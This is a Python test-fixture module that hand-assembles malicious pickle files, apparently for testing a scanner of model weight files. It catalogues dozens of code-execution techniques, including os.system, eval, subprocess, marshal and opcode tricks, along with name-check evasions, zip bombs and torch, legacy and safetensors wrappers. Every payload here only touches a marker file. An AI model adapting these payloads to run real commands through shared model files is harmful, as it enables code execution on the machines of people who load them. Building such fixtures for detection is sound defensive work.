"""Pickles that would leave a marker if anything ran them, written opcode by opcode.

Every payload is harmless: at most it makes one empty file at the path it is given. No `pickle` is
used to write them, so that the opcodes are exactly what an attacker would choose.
"""

from __future__ import annotations

import io
import marshal
import struct
import zipfile
from collections.abc import Iterator
from pathlib import Path

Payload = bytes
_MAGIC = b"\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
_PROTOCOL = b"\x80\x02"


def text(value: str) -> Payload:
    """Push a text."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def raw_bytes(value: bytes) -> Payload:
    """Push bytes."""
    return b"B" + struct.pack("<I", len(value)) + value


def number(value: int) -> Payload:
    """Push a number."""
    return b"J" + struct.pack("<i", value)


def name(dotted: str) -> Payload:
    """Push a global by the opcode of protocol 2."""
    module, _, leaf = dotted.partition(":")
    return f"c{module}\n{leaf}\n".encode()


def row(*items: Payload) -> Payload:
    """Push a tuple."""
    return b"(" + b"".join(items) + b"t"


def call(function: Payload, *arguments: Payload) -> Payload:
    """Push the result of a call."""
    return function + row(*arguments) + b"R"


def attribute(of: Payload, leaf: str) -> Payload:
    """Push an attribute."""
    return call(name("builtins:getattr"), of, text(leaf))


def payloads(marker: Path) -> dict[str, Payload]:
    """Return pickles by the technique they use, without the protocol and the final stop."""
    path = text(str(marker))
    shell = text(f"touch {marker}")
    python = text(f"open({str(marker)!r}, 'w')")
    code = marshal.dumps(compile(f"open({str(marker)!r}, 'w')", "<evil>", "exec"))
    found = {f"{dotted} with a shell command": call(name(dotted), shell) for dotted in _SHELL}
    found |= {f"{dotted} with code": call(name(dotted), python) for dotted in _PYTHON}
    found |= {f"{dotted} writes": call(name(dotted), path, text("w")) for dotted in _OPEN}
    found |= {f"{dotted} makes": call(name(dotted), path) for dotted in _MAKE}
    found |= _functions(marker, path, shell, code)
    found |= _opcodes(path, shell)
    return found


_SHELL = (
    "os:system", "posix:system", "os:popen", "subprocess:getoutput", "subprocess:getstatusoutput",
    "nt:system", "commands:getoutput", "platform:popen", "pty:spawn",
)  # fmt: skip
_PYTHON = (
    "builtins:eval", "builtins:exec", "__builtin__:eval", "__builtin__:exec", "timeit:timeit",
    "cProfile:run", "profile:run", "pdb:run", "trace:run", "doctest:debug_script",
    "numpy.testing._private.utils:runstring", "code:interact", "idlelib.run:Executive",
    "torch.fx.graph_module:_forward_from_src", "torch._dynamo.guards:eval",
)  # fmt: skip
_OPEN = (
    "builtins:open", "io:open", "_io:open", "codecs:open", "gzip:open", "bz2:open", "lzma:open",
    "tarfile:open", "zipfile:ZipFile", "_io:FileIO", "io:FileIO", "tokenize:open", "os:fdopen",
    "logging:FileHandler", "wave:open", "dbm.dumb:open", "shelve:open",
)  # fmt: skip
_MAKE = (
    "os:mkdir", "os:makedirs", "posix:mkdir", "sqlite3:connect", "sqlite3.dbapi2:connect",
    "_sqlite3:connect", "os:mkfifo", "importlib:import_module", "ctypes:CDLL", "runpy:run_path",
    "torch:load", "torch.jit:load", "torch.hub:load", "numpy:load", "mailbox:mbox",
)  # fmt: skip


def _functions(marker: Path, path: Payload, shell: Payload, code: bytes) -> dict[str, Payload]:
    """Return payloads of several steps."""
    touch = attribute(call(name("pathlib:Path"), path), "touch")
    loads = call(name("marshal:loads"), raw_bytes(code))
    inner = _PROTOCOL + call(name("os:system"), shell) + b"."
    partial = call(name("functools:partial"), name("os:system"), shell)
    method = call(name("operator:methodcaller"), text("system"), shell)
    module = call(name("builtins:__import__"), text("os"))
    argv = row(text("touch"), path)
    return {
        "FunctionType and marshal": call(call(name("types:FunctionType"), loads, b"}")),
        "Path.touch by getattr": call(touch),
        "pathlib.Path.touch by dotted name": call(
            name("pathlib:Path.touch"), call(name("pathlib:Path"), path)
        ),
        "pickle.loads of a pickle": call(name("pickle:loads"), raw_bytes(inner)),
        "_pickle.loads of a pickle": call(name("_pickle:loads"), raw_bytes(inner)),
        "functools.partial": call(partial),
        "methodcaller on an import": call(method, module),
        "getattr on an import": call(attribute(module, "system"), shell),
        "builtins.map": call(
            name("builtins:list"), call(name("builtins:map"), name("os:system"), row(shell))
        ),
        "Popen": call(name("subprocess:Popen"), argv),
        "subprocess.call": call(name("subprocess:call"), argv),
        "subprocess.run": call(name("subprocess:run"), argv),
        "subprocess.check_output": call(name("subprocess:check_output"), argv),
        "os.spawnvp": call(name("os:spawnvp"), number(0), text("touch"), argv),
        "os.open": call(name("os:open"), path, number(0o101)),
        "os.symlink": call(name("os:symlink"), text("/nowhere"), path),
        "shutil.copyfile": call(name("shutil:copyfile"), text("/dev/null"), path),
        "urlretrieve": call(name("urllib.request:urlretrieve"), text("file:///dev/null"), path),
        "torch.save": call(name("torch:save"), number(1), path),
        "numpy.save": call(name("numpy:save"), path, number(1)),
        "os.path.join to system": call(name("os.path:os.system"), shell),
        "a name below a harmless one": call(name("torch.nn.modules.module:warnings.sys"), path),
        "a harmless prefix": call(name("collections.OrderedDict.os:system"), shell),
        "a name with a line end": call(name("torch._utils:_rebuild_tensor_v2;os"), path),
        "bytearray by codecs": call(name("_codecs:decode"), text(str(marker)), text("utf-8")),
    }


def _opcodes(path: Payload, shell: Payload) -> dict[str, Payload]:
    """Return one call of the shell by each opcode that can make it."""
    short = b"\x8c\x02os\x8c\x06system\x93"
    system = name("os:system")
    build = name("argparse:Namespace") + b")\x81" + b"}" + text("x") + call(system, shell) + b"sb"
    storage = row(text("storage"), call(system, shell), text("0"), text("cpu"), number(1))
    return {
        "INST": b"(" + shell + b"ios\nsystem\n",
        "OBJ": b"(" + system + shell + b"o",
        "NEWOBJ": name("subprocess:Popen") + row(row(text("touch"), path)) + b"\x81",
        "NEWOBJ_EX": name("subprocess:Popen") + row(row(text("touch"), path)) + b"}\x92",
        "STACK_GLOBAL": short + row(shell) + b"R",
        "BUILD": build,
        "BINPERSID": storage + b"Q",
        "PERSID": b"Pos.system\n",
        "EXT1": b"\x82\x01" + row(shell) + b"R",
        "LONG4": b"\x8b" + struct.pack("<i", 2**30),
        "in a dict": b"}" + text("weight") + call(system, shell) + b"s",
        "after a pop": call(system, shell) + b"0N",
        "in the memo": call(system, shell) + b"q\x00" + b"0h\x00",
        "in an OrderedDict": call(name("collections:OrderedDict"), call(system, shell)),
        "as a tensor's hook": call(
            name("torch._utils:_rebuild_parameter"), call(system, shell), b"\x88", b"}"
        ),
    }


def containers(payload: Payload) -> Iterator[tuple[str, bytes]]:
    """Yield a payload in every form that a weights file can have."""
    pickled = _PROTOCOL + payload + b"."
    system = _PROTOCOL + b"}."
    legacy = _PROTOCOL + _MAGIC + _PROTOCOL + b"M\xe9\x03." + system
    yield "zip", zipped(pickled)
    yield "legacy", legacy + pickled + _PROTOCOL + b"]."
    yield "legacy, first pickle", pickled + legacy
    yield "bare", pickled
    yield "bare, protocol 0", payload + b"."
    yield "pickle before a zip", pickled + zipped(_PROTOCOL + b"}.")
    yield "safetensors before a pickle", _safetensors() + pickled


def zipped(pickled: bytes, compression: int = zipfile.ZIP_STORED) -> bytes:
    """Return a torch archive with this description."""
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w", compression) as archive:
        archive.writestr("archive/data.pkl", pickled)
        archive.writestr("archive/data/0", bytes(64))
        archive.writestr("archive/version", b"3\n")
    return memory.getvalue()


def _safetensors() -> bytes:
    header = b'{"weight":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}'
    return len(header).to_bytes(8, "little") + header + bytes(4)


def files(marker: Path) -> Iterator[tuple[str, bytes]]:
    """Yield every technique in every container, with a name for people."""
    for technique, payload in payloads(marker).items():
        for container, content in containers(payload):
            yield f"{technique}, {container}", content


def bombs(steps: int) -> Iterator[tuple[str, bytes]]:
    """Yield files that would take very long, or all memory, if they were believed.

    Args:
        steps: How many opcodes the longest have at least.
    """
    yield "zip bomb", zipped(_PROTOCOL + b"N0" * steps + b".", zipfile.ZIP_DEFLATED)
    yield "nested zip bomb", zipped(zipped(bytes(steps), zipfile.ZIP_DEFLATED))
    yield "deep nesting", zipped(_PROTOCOL + b"]" + b"(l" * steps + b".")
    yield "endless memo", zipped(_PROTOCOL + b"]" + b"q\x00h\x00a" * steps)
    yield "endless steps", zipped(_PROTOCOL + b"N0" * steps + b".")
